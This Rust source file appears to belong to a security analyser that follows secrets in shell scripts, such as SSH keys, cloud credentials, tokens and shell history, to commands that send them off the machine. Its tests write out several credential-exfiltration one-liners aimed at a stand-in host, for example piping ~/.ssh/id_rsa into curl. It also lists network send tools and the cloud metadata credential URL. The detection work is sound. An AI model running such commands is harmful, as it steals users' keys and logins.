//! What shell text takes from key files, the environment and other programs' logins, and how it
//! leaves: over a pipe, in a variable, in a substitution, or in a file that another script sends.

use std::collections::{BTreeMap, BTreeSet};

use super::program::{holds_secrets, prints_secrets};
use super::shell_programs as programs;
use crate::shell::{RedirectionKind, ShellCommand, ShellPlace, ShellScript, ShellWord};

/// Commands inside commands that are looked at.
const MAX_DEPTH: usize = 4;
/// Commands of a script that are followed; a longer script is a program of another kind.
const MAX_COMMANDS: usize = 4_000;

/// How much a value says about its owner.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum SecretWorth {
    /// A login that its own service may see.
    Login,
    /// Key files and whole environments: for their owner alone.
    Keys,
}

/// Something that happens to a secret.
#[derive(Debug, PartialEq, Eq)]
pub(super) enum SecretStep {
    /// A command sends it.
    Leak(SecretWorth),
    /// It is written to a file.
    Pack(String),
    /// A file is sent, whatever it holds.
    Send(String),
}

/// A script, with what of it holds secrets so far.
pub(super) struct SecretTrail<'a> {
    script: &'a ShellScript,
    children: &'a BTreeMap<usize, Vec<usize>>,
    variables: BTreeMap<&'a str, SecretWorth>,
    files: BTreeSet<String>,
}

impl<'a> SecretTrail<'a> {
    pub(super) fn new(script: &'a ShellScript, children: &'a BTreeMap<usize, Vec<usize>>) -> Self {
        Self { script, children, variables: BTreeMap::new(), files: BTreeSet::new() }
    }

    /// Follows the commands in their order; each step comes with the number of its command.
    pub(super) fn follow(mut self) -> Vec<(usize, SecretStep)> {
        let mut steps = Vec::new();
        let mut piped: BTreeMap<usize, SecretWorth> = BTreeMap::new();
        for (at, command) in self.script.commands.iter().enumerate().take(MAX_COMMANDS) {
            for (name, value) in &command.assignments {
                let inner = if value.has_substitution { self.substituted(at) } else { None };
                if let Some(worth) = inner.max(self.spelled(value)) {
                    self.variables.insert(name, worth);
                }
            }
            let taken = self.taken(at, 0);
            let carried = taken.max(piped.get(&command.pipeline).copied());
            if let Some(worth) = carried {
                // What a download saves is its own.
                if !programs::fetches(command) || programs::sends(command) {
                    piped.insert(command.pipeline, worth);
                }
                for file in self.written(command) {
                    self.files.insert(file.clone());
                    steps.push((at, SecretStep::Pack(file)));
                }
            }
            let sends = programs::sends(command) || programs::publishes(command);
            let asks = programs::fetches(command);
            if !sends && !asks {
                continue;
            }
            let mut leak = if sends { carried } else { self.in_words(at) };
            for file in sent_files(command) {
                if self.files.contains(&file) {
                    leak = Some(SecretWorth::Keys);
                }
                steps.push((at, SecretStep::Send(file)));
            }
            if let Some(worth) = leak {
                steps.push((at, SecretStep::Leak(worth)));
            }
        }
        steps
    }

    /// The secrets that a command reads, by itself or by what is inside it.
    fn taken(&self, at: usize, depth: usize) -> Option<SecretWorth> {
        let command = &self.script.commands[at];
        let own = reads(command).max(self.in_words(at));
        if depth >= MAX_DEPTH {
            return own;
        }
        let inner = self.children.get(&at).into_iter().flatten();
        inner
            .filter(|inner| self.script.commands[**inner].place != ShellPlace::Substitution)
            .map(|inner| self.taken(*inner, depth + 1))
            .fold(own, Option::max)
    }

    /// The secrets in a command's words: variables that hold one, and what its substitutions print.
    fn in_words(&self, at: usize) -> Option<SecretWorth> {
        let command = &self.script.commands[at];
        let words = command.arguments().iter();
        let spelled = words.map(|word| self.spelled(word)).fold(None, Option::max);
        spelled.max(self.substituted(at))
    }

    fn substituted(&self, at: usize) -> Option<SecretWorth> {
        let inner = self.children.get(&at).into_iter().flatten();
        inner
            .filter(|inner| self.script.commands[**inner].place == ShellPlace::Substitution)
            .map(|inner| self.taken(*inner, 1))
            .fold(None, Option::max)
    }

    fn spelled(&self, word: &ShellWord) -> Option<SecretWorth> {
        let mut found = None;
        for (at, _) in word.text.match_indices('$').take(16) {
            let name = word.text[at + 1..].trim_start_matches('{');
            let end = name.find(|c: char| !c.is_ascii_alphanumeric() && c != '_');
            let name = &name[..end.unwrap_or(name.len())];
            found = found.max(self.variables.get(name).copied());
        }
        found
    }

    /// Files that it writes.
    fn written(&self, command: &ShellCommand) -> Vec<String> {
        let mut files: Vec<String> =
            command.written_files().map(|word| word.text.clone()).collect();
        files.extend(programs::written_operands(command));
        let archive = |word: &ShellWord| {
            [".tgz", ".tar", ".gz", ".zip", ".7z", ".bz2", ".xz", ".gpg", ".enc"]
                .iter()
                .any(|end| word.text.ends_with(end))
        };
        if matches!(command.program(), Some("tar" | "zip" | "7z" | "gpg" | "openssl" | "rar")) {
            files.extend(
                command.arguments().iter().filter(|word| archive(word)).map(|w| w.text.clone()),
            );
        }
        files.retain(|file| file != "/dev/null" && !file.starts_with("/dev/std"));
        files
    }
}

/// What a command reads by itself.
fn reads(command: &ShellCommand) -> Option<SecretWorth> {
    let name = command.program()?;
    let words: Vec<&str> = command.arguments().iter().map(|word| word.text.as_str()).collect();
    let line = std::iter::once(name).chain(words.iter().copied()).collect::<Vec<_>>().join(" ");
    if prints_login(name, &words, &line) {
        return Some(SecretWorth::Login);
    }
    if prints_secrets(&line) || name == "history" && command.stage == 0 {
        return Some(SecretWorth::Keys);
    }
    const READERS: &[&str] = &[
        "cat", "head", "tail", "tar", "zip", "cp", "base64", "gzip", "xxd", "openssl", "gpg", "dd",
        "less", "strings", "7z", "rar", "sed", "awk", "find", "sqlite3",
    ];
    let input = command.redirections.iter().find(|r| r.kind == RedirectionKind::Input);
    let from_input = input.is_some_and(|input| holds_secrets(&input.target.text));
    let listed = READERS.contains(&name) && words.iter().any(|word| holds_secrets(word));
    let sent = sent_files(command).iter().any(|file| holds_secrets(file));
    (from_input || listed || sent).then_some(SecretWorth::Keys)
}

/// Programs that print a login of theirs.
fn prints_login(name: &str, words: &[&str], line: &str) -> bool {
    match (name, words.first().copied().unwrap_or("")) {
        ("gh", "auth") => words.get(1) == Some(&"token"),
        ("kubectl", "get") => {
            words.get(1).is_some_and(|word| word.starts_with("secret"))
                && words.iter().any(|word| word.contains("json") || word.contains("yaml"))
        }
        ("kubectl", "config") => words.contains(&"--raw"),
        ("aws", "configure") => words.contains(&"export-credentials") || words.contains(&"get"),
        ("aws", "secretsmanager" | "ssm") => line.contains("get-"),
        ("gcloud", "auth") => line.contains("print-"),
        ("az", "account") => line.contains("get-access-token"),
        ("pg_dump" | "mysqldump" | "mongodump", _) => true,
        ("curl" | "wget", _) => {
            line.contains("169.254.169.254") && line.contains("security-credentials")
        }
        _ => false,
    }
}

/// Files whose content a command sends.
fn sent_files(command: &ShellCommand) -> Vec<String> {
    let arguments = command.arguments();
    let mut files = Vec::new();
    match command.program() {
        Some("curl" | "wget" | "http" | "xh") => {
            for (at, word) in arguments.iter().enumerate() {
                let text = word.text.as_str();
                let next = || arguments.get(at + 1).map_or("", |word| word.text.as_str());
                if let Some((_, file)) = text.split_once('@')
                    && (text.starts_with('@') || text.contains("=@") || text.starts_with("-d@"))
                {
                    files.push(file.split(';').next().unwrap_or(file).to_owned());
                } else if matches!(text, "-t" | "--upload-file" | "--post-file" | "--body-file") {
                    files.push(next().to_owned());
                } else if let Some((_, file)) = text.split_once("-file=") {
                    files.push(file.to_owned());
                }
            }
        }
        Some("scp" | "rsync" | "sftp") => {
            let mut skip = false;
            for word in arguments {
                let is_value = std::mem::replace(
                    &mut skip,
                    matches!(&*word.text, "-i" | "-f" | "-o" | "-e" | "-p"),
                );
                if !is_value && !word.text.starts_with('-') && !word.text.contains(':') {
                    files.push(word.text.clone());
                }
            }
        }
        Some("gh" | "gist" | "transfer" | "croc" | "wormhole" | "nc" | "ncat" | "netcat") => {
            files.extend(command.operands().map(|word| word.text.clone()));
        }
        _ => {}
    }
    if let Some(input) = command.input().filter(|input| input.kind == RedirectionKind::Input) {
        files.push(input.target.text.clone());
    }
    files.retain(|file| file.len() > 1 && file != "-");
    files
}

#[cfg(test)]
mod tests {
    use super::*;

    fn steps(text: &str) -> Vec<SecretStep> {
        let script = ShellScript::parse(text);
        let mut children: BTreeMap<usize, Vec<usize>> = BTreeMap::new();
        for (at, command) in script.commands.iter().enumerate() {
            if let Some(parent) = command.parent {
                children.entry(parent).or_default().push(at);
            }
        }
        SecretTrail::new(&script, &children).follow().into_iter().map(|(_, step)| step).collect()
    }

    fn leaks(text: &str) -> Option<SecretWorth> {
        let worth = |step| match step {
            SecretStep::Leak(worth) => Some(worth),
            _ => None,
        };
        steps(text).into_iter().filter_map(worth).max()
    }

    #[test]
    fn secrets_are_followed_to_what_sends_them() {
        let keys = Some(SecretWorth::Keys);
        let login = Some(SecretWorth::Login);
        for (text, worth) in [
            ("cat ~/.ssh/id_rsa | base64 | curl -d @- https://a.net", keys),
            ("k=$(cat ~/.aws/credentials)\ncurl -d \"$k\" https://a.net", keys),
            ("curl -h \"x: $(cat ~/.netrc)\" https://a.net", keys),
            ("tar czf /tmp/c.tgz ~/.ssh\ncurl -f \"f=@/tmp/c.tgz\" https://a.net", keys),
            ("t=$(gh auth token)\ncurl -h \"a: ${t}\" https://a.net", login),
            ("kubectl get secrets -o json | gzip | curl --data-binary @- https://a.net", login),
            ("history | tail -9 > /tmp/h\ncurl -d @/tmp/h https://a.net", keys),
            ("ssh -i ~/.ssh/id_rsa host uptime", None),
            ("scp -i ~/.ssh/id_rsa out.txt host:", None),
            ("curl -o f https://a.net\ncurl -d @f https://b.net", None),
            ("cat ~/.ssh/id_rsa.pub | curl -d @- https://a.net", None),
            ("source .env\ncurl -h \"k: $key\" https://a.net", None),
        ] {
            assert_eq!(leaks(text), worth, "{text}: {:?}", steps(text));
        }
    }

    #[test]
    fn files_are_packed_and_sent() {
        assert_eq!(steps("tar czf /tmp/c.tgz ~/.ssh"), [SecretStep::Pack("/tmp/c.tgz".to_owned())]);
        assert_eq!(
            steps("curl -f f=@/tmp/c.tgz https://a.net"),
            [SecretStep::Send("/tmp/c.tgz".to_owned())]
        );
    }
}
